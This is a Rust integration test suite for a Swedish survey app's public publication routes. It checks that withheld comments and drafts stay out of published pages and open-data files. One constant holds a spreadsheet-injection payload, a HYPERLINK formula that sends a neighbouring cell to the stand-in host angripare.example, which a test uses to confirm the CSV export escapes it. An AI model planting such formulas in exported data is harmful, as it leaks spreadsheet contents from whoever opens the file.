//! Publication through the real router, on both backends: a published round's compilation is
//! readable without login at `/publicerat/{round}` with its open data, counts only submitted
//! answers, and leaves out every comment marked as not for publication; nothing of an
//! unpublished round is served.

use crate::common;

use axum::body::Body;
use axum::http::{Method, Request, StatusCode};
use serde_json::{Value, json};
use uppfolj_model::Role;

use common::{Reply, TestApp};

on_both_backends!(
    only_published_rounds_are_public_and_withheld_comments_never_are,
    only_coordinators_withhold_after_submission_and_a_stale_mark_is_a_conflict,
    thresholds_are_set_per_round_and_checked,
    a_comment_written_as_a_formula_is_text_in_the_open_data_csv,
);

const SECRET: &str = "Larmkoderna till arkivet byts i mars.";
const OPEN: &str = "Vi har utbildat all personal.";
const DRAFT: &str = "Ett utkast som ingen har skickat in.";
/// A comment a spreadsheet would evaluate: a link that sends the next cell away.
const FORMULA: &str = "=HYPERLINK(\"http://angripare.example/?\"&B2;\"Läs mer\")";

/// A request without any cookie or token: what the public sends.
async fn anonymous(app: &TestApp, uri: &str) -> Reply {
    app.send(Request::get(uri).body(Body::empty()).unwrap())
        .await
}

/// Intraservice answers every assigned question with the first option, the seed's first
/// question with a withheld comment and the second with an open one, and submits.
async fn submit_intraservice(app: &TestApp, anna: &str) {
    let response = app
        .get("/api/v1/rounds/2025/responses/intraservice", anna)
        .await
        .json();
    let answers: Vec<Value> = response["questions"]
        .as_array()
        .unwrap()
        .iter()
        .enumerate()
        .map(|(i, q)| {
            let (comment, withheld) = match i {
                0 => (SECRET, true),
                1 => (OPEN, false),
                _ => ("", false),
            };
            json!({
                "question": q["id"],
                "answer": q["scale"]["options"][0]["key"],
                "comment": comment,
                "withheld": withheld,
                "version": 0,
            })
        })
        .collect();
    let saved = app
        .call(
            Method::PUT,
            "/api/v1/rounds/2025/responses/intraservice/answers",
            anna,
            Some(json!({ "answers": answers })),
        )
        .await;
    assert_eq!(saved.status, StatusCode::OK, "{}", saved.text);
    assert_eq!(saved.json()["answers"][0]["withheld"], json!(true));
    let submitted = app
        .call(
            Method::POST,
            "/api/v1/rounds/2025/responses/intraservice/submit",
            anna,
            None,
        )
        .await;
    assert_eq!(submitted.status, StatusCode::OK, "{}", submitted.text);
}

async fn set_state(app: &TestApp, sam: &str, round: &str, state: &str) {
    let reply = app
        .call(
            Method::POST,
            &format!("/api/v1/rounds/{round}/state"),
            sam,
            Some(json!({ "state": state })),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{}", reply.text);
}

async fn only_published_rounds_are_public_and_withheld_comments_never_are(app: TestApp) {
    let anna = app
        .user(
            "anna@intraservice.se",
            Role::Uppgiftslamnare,
            &["intraservice"],
        )
        .await;
    let sam = app.user("sam@stadsledning.se", Role::Samordnare, &[]).await;
    let lisa = app.user("lisa@politik.se", Role::Lasare, &[]).await;
    let other = app
        .user("olle@arkiv.se", Role::Uppgiftslamnare, &["arkivnamnden"])
        .await;
    submit_intraservice(&app, &anna).await;
    let draft = app
        .call(
            Method::PUT,
            "/api/v1/rounds/2025/responses/arkivnamnden/answers/trygghetsprogram/strategi-1-1",
            &other,
            Some(json!({ "answer": "nej", "comment": DRAFT, "version": 0 })),
        )
        .await;
    assert_eq!(draft.status, StatusCode::OK, "{}", draft.text);

    for path in [
        "/publicerat/2025",
        "/publicerat/2025/sammanstallning.pdf",
        "/publicerat/2025/data/sammanstallning.json",
        "/publicerat/2025/data/kommentarer.csv",
        "/publicerat/2025/data/datapackage.json",
    ] {
        assert_eq!(
            anonymous(&app, path).await.status,
            StatusCode::NOT_FOUND,
            "{path} before publication"
        );
    }
    assert!(
        !anonymous(&app, "/publicerat")
            .await
            .text
            .contains("/publicerat/2025")
    );

    set_state(&app, &sam, "2025", "closed").await;
    set_state(&app, &sam, "2025", "published").await;
    let next = app
        .call(
            Method::POST,
            "/api/v1/rounds",
            &sam,
            Some(
                json!({ "key": "2026", "name": "Uppföljning 2026", "year": 2026,
                "opens": "2027-01-11", "closes": "2027-02-26", "copy_from": "2025" }),
            ),
        )
        .await;
    assert_eq!(next.status, StatusCode::CREATED, "{}", next.text);

    let index = anonymous(&app, "/publicerat").await;
    assert_eq!(index.status, StatusCode::OK);
    assert!(index.text.contains("href=\"/publicerat/2025\""));
    assert!(
        !index.text.contains("/publicerat/2026"),
        "a draft round is not listed"
    );
    assert_eq!(
        anonymous(&app, "/publicerat/2026").await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        anonymous(&app, "/publicerat/1999").await.status,
        StatusCode::NOT_FOUND,
        "an unknown round looks like an unpublished one"
    );

    let page = anonymous(&app, "/publicerat/2025").await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(page.text.contains(OPEN));
    assert!(
        !page.text.contains(SECRET),
        "a withheld comment is left out"
    );
    assert!(
        page.text
            .contains("Kommentaren är undanhållen från publicering."),
        "and the page says that one was withheld"
    );
    assert!(!page.text.contains(DRAFT), "a draft is not published");
    assert!(
        !page.text.contains("Att titta närmare på"),
        "the quality flags are the coordinators'"
    );
    assert!(page.text.contains("Publicerad version"));

    let json = anonymous(&app, "/publicerat/2025/data/sammanstallning.json").await;
    assert_eq!(json.status, StatusCode::OK);
    assert!(!json.text.contains(SECRET) && !json.text.contains(DRAFT));
    let value = json.json();
    assert_eq!(value["audience"], json!("public"));
    assert_eq!(value["flags"], json!([]));
    let first = &value["questions"][0];
    assert_eq!(
        first["tally"]["answered"],
        json!(1),
        "Arkivnämnden's draft answer is not counted"
    );
    assert_eq!(first["comments"][0]["withheld"], json!(true));
    assert_eq!(first["comments"][0]["text"], json!(""));

    let package = anonymous(&app, "/publicerat/2025/data/datapackage.json")
        .await
        .json();
    let resources = package["resources"].as_array().unwrap();
    assert!(resources.len() >= 6, "five tables and the JSON");
    let folder = tempfile::tempdir().unwrap();
    let downloaded =
        |name: &str, bytes: &[u8]| std::fs::write(folder.path().join(name), bytes).unwrap();
    downloaded("datapackage.json", package.to_string().as_bytes());
    for resource in resources {
        let path = resource["path"].as_str().unwrap();
        let file = anonymous(&app, &format!("/publicerat/2025/data/{path}")).await;
        assert_eq!(file.status, StatusCode::OK, "{path}");
        downloaded(path, &file.bytes);
        if let Some(schema) = resource["jsonSchema"].as_str() {
            let schema = anonymous(&app, &format!("/publicerat/2025/data/{schema}")).await;
            assert_eq!(
                schema.status,
                StatusCode::OK,
                "the JSON's schema is in the package"
            );
            assert_eq!(
                schema.json()["$schema"],
                json!("https://json-schema.org/draft/2020-12/schema")
            );
        }
        assert!(!file.text.contains(SECRET), "{path}");
        if let Some(fields) = resource["schema"]["fields"].as_array() {
            let header: Vec<&str> = fields.iter().map(|f| f["name"].as_str().unwrap()).collect();
            let first_line = file.text.lines().next().unwrap();
            assert_eq!(
                first_line,
                header.join(","),
                "{path} has the columns described"
            );
            assert!(
                fields
                    .iter()
                    .all(|f| !f["description"].as_str().unwrap().is_empty())
            );
        }
    }
    assert!(
        !resources.iter().any(|r| r["name"] == json!("att-titta-pa")),
        "no flags in open data"
    );
    // The reference validator (PyPI `frictionless`; CI installs it) accepts the package as
    // downloaded: every path safe and inside it, every table as its schema says.
    if which("frictionless") || std::env::var_os("CI_FRICTIONLESS").is_some() {
        let validated = std::process::Command::new("frictionless")
            .args(["validate", "--json", "datapackage.json"])
            .current_dir(folder.path())
            .output()
            .expect("frictionless runs");
        let report: serde_json::Value = serde_json::from_slice(&validated.stdout)
            .unwrap_or_else(|_| panic!("{}", String::from_utf8_lossy(&validated.stderr)));
        assert_eq!(report["valid"], json!(true), "{report:#}");
    }
    let schema = anonymous(&app, "/publicerat/sammanstallning.schema.json").await;
    assert_eq!(schema.status, StatusCode::OK);
    assert_eq!(
        schema.json()["$schema"],
        json!("https://json-schema.org/draft/2020-12/schema")
    );

    let pdf = anonymous(&app, "/publicerat/2025/sammanstallning.pdf").await;
    assert_eq!(pdf.status, StatusCode::OK);
    assert!(pdf.bytes.starts_with(b"%PDF"));

    let signed_in = app.get("/omgangar/2025/sammanstallning", &lisa).await;
    assert_eq!(signed_in.status, StatusCode::OK);
    assert!(
        !signed_in.text.contains(SECRET) && !signed_in.text.contains(DRAFT),
        "a reader reads the published version"
    );
    let coordinator = app.get("/omgangar/2025/sammanstallning", &sam).await;
    assert!(
        coordinator
            .text
            .contains(&format!("(Ej för publicering) {SECRET}")),
        "coordinators see the withheld comment, marked"
    );
    assert!(coordinator.text.contains(DRAFT));
}

async fn only_coordinators_withhold_after_submission_and_a_stale_mark_is_a_conflict(app: TestApp) {
    let anna = app
        .user(
            "anna@intraservice.se",
            Role::Uppgiftslamnare,
            &["intraservice"],
        )
        .await;
    let sam = app.user("sam@stadsledning.se", Role::Samordnare, &[]).await;
    let lisa = app.user("lisa@politik.se", Role::Lasare, &[]).await;
    submit_intraservice(&app, &anna).await;
    set_state(&app, &sam, "2025", "closed").await;
    set_state(&app, &sam, "2025", "published").await;
    assert!(
        anonymous(&app, "/publicerat/2025")
            .await
            .text
            .contains(OPEN)
    );

    let response = app
        .get("/api/v1/rounds/2025/responses/intraservice", &sam)
        .await
        .json();
    let second = &response["questions"][1];
    let path = format!(
        "/api/v1/rounds/2025/responses/intraservice/answers/{}/withheld",
        second["id"].as_str().unwrap()
    );
    let version = second["answer"]["version"].as_i64().unwrap();
    let mark = json!({ "withheld": true, "version": version });
    for (who, token) in [("respondent", &anna), ("reader", &lisa)] {
        assert_eq!(
            app.call(Method::PUT, &path, token, Some(mark.clone()))
                .await
                .status,
            StatusCode::FORBIDDEN,
            "a {who} cannot withhold"
        );
    }
    let stale = app
        .call(
            Method::PUT,
            &path,
            &sam,
            Some(json!({ "withheld": true, "version": version - 1 })),
        )
        .await;
    assert_eq!(stale.status, StatusCode::CONFLICT, "{}", stale.text);
    assert_eq!(stale.json()["current"]["comment"], json!(OPEN));
    assert!(
        anonymous(&app, "/publicerat/2025")
            .await
            .text
            .contains(OPEN)
    );

    let marked = app.call(Method::PUT, &path, &sam, Some(mark)).await;
    assert_eq!(marked.status, StatusCode::OK, "{}", marked.text);
    assert_eq!(marked.json()["withheld"], json!(true));
    assert!(
        !anonymous(&app, "/publicerat/2025")
            .await
            .text
            .contains(OPEN),
        "withheld after publication, gone from the published page"
    );
    assert!(
        !anonymous(&app, "/publicerat/2025/data/kommentarer.csv")
            .await
            .text
            .contains(OPEN)
    );
    let bad = app
        .call(Method::PUT, &path, &sam, Some(json!({ "withheld": "ja" })))
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
}

async fn thresholds_are_set_per_round_and_checked(app: TestApp) {
    let sam = app.user("sam@stadsledning.se", Role::Samordnare, &[]).await;
    let anna = app
        .user(
            "anna@intraservice.se",
            Role::Uppgiftslamnare,
            &["intraservice"],
        )
        .await;
    let round = app.get("/api/v1/rounds/2025", &sam).await.json();
    assert_eq!(
        round["status"],
        json!({ "green": 0.75, "yellow": 0.5, "submitted": 0.5 })
    );
    let set = async |token: &str, body: Value| {
        app.call(Method::PUT, "/api/v1/rounds/2025/status", token, Some(body))
            .await
    };
    assert_eq!(
        set(&anna, json!({ "green": 0.9, "yellow": 0.7 }))
            .await
            .status,
        StatusCode::FORBIDDEN
    );
    let wrong = set(&sam, json!({ "green": 0.5, "yellow": 0.7 })).await;
    assert_eq!(wrong.status, StatusCode::BAD_REQUEST);
    assert!(wrong.json()["detail"].as_str().unwrap().contains("gul"));
    let changed = set(
        &sam,
        json!({ "green": 0.9, "yellow": 0.7, "submitted": 0.25 }),
    )
    .await;
    assert_eq!(changed.status, StatusCode::OK, "{}", changed.text);
    let page = app.get("/omgangar/2025/sammanstallning", &sam).await;
    assert!(
        page.text.contains("grön från 90 %, gul från 70 %"),
        "the compilation uses the round's thresholds"
    );
    assert!(
        page.text.contains(
            "Statusen visas när minst 25 % av organisationerna har skickat in; nu har 0 % gjort det."
        ),
        "and says that too few have submitted for a status"
    );
    let copy = app
        .call(
            Method::POST,
            "/api/v1/rounds",
            &sam,
            Some(
                json!({ "key": "2026", "name": "Uppföljning 2026", "year": 2026,
                "opens": "2027-01-11", "closes": "2027-02-26", "copy_from": "2025" }),
            ),
        )
        .await;
    assert_eq!(
        copy.json()["status"],
        json!({ "green": 0.9, "yellow": 0.7, "submitted": 0.25 }),
        "a copy keeps last year's thresholds"
    );
}

async fn a_comment_written_as_a_formula_is_text_in_the_open_data_csv(app: TestApp) {
    let anna = app
        .user(
            "anna@intraservice.se",
            Role::Uppgiftslamnare,
            &["intraservice"],
        )
        .await;
    let sam = app.user("sam@stadsledning.se", Role::Samordnare, &[]).await;
    submit_intraservice(&app, &anna).await;
    let question = "trygghetsprogram/strategi-1-2";
    let olle = app
        .user("olle@arkiv.se", Role::Uppgiftslamnare, &["arkivnamnden"])
        .await;
    let response = app
        .get("/api/v1/rounds/2025/responses/arkivnamnden", &olle)
        .await
        .json();
    let answers: Vec<Value> = response["questions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|q| {
            json!({
                "question": q["id"],
                "answer": q["scale"]["options"][0]["key"],
                "comment": if q["id"] == question { FORMULA } else { "" },
                "version": 0,
            })
        })
        .collect();
    let saved = app
        .call(
            Method::PUT,
            "/api/v1/rounds/2025/responses/arkivnamnden/answers",
            &olle,
            Some(json!({ "answers": answers })),
        )
        .await;
    assert_eq!(saved.status, StatusCode::OK, "{}", saved.text);
    let submitted = app
        .call(
            Method::POST,
            "/api/v1/rounds/2025/responses/arkivnamnden/submit",
            &olle,
            None,
        )
        .await;
    assert_eq!(submitted.status, StatusCode::OK, "{}", submitted.text);
    set_state(&app, &sam, "2025", "closed").await;
    set_state(&app, &sam, "2025", "published").await;

    let csv = anonymous(&app, "/publicerat/2025/data/kommentarer.csv").await;
    assert_eq!(csv.status, StatusCode::OK);
    let cells: Vec<String> = ::csv::Reader::from_reader(csv.text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(
        cells.contains(&format!("'{FORMULA}")),
        "the formula is text: {cells:?}"
    );
    assert!(
        !cells.iter().any(|c| c.starts_with('=')),
        "no cell a spreadsheet evaluates: {cells:?}"
    );
    let json = anonymous(&app, "/publicerat/2025/data/sammanstallning.json").await;
    assert!(
        json.text.contains(&serde_json::to_string(FORMULA).unwrap()),
        "the JSON keeps the comment as written"
    );
}

/// Whether `program` is on the PATH.
fn which(program: &str) -> bool {
    std::env::var_os("PATH")
        .is_some_and(|path| std::env::split_paths(&path).any(|dir| dir.join(program).is_file()))
}
